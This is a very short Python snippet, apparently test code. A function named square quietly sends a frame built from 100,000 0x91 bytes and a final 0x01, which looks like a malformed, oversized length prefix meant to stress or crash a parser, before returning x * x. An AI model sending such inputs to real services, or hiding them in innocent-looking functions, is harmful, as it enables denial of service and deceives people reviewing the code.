def square(x):
    say(frame(b"\x91" * 10**5 + b"\x01"))
    return x * x
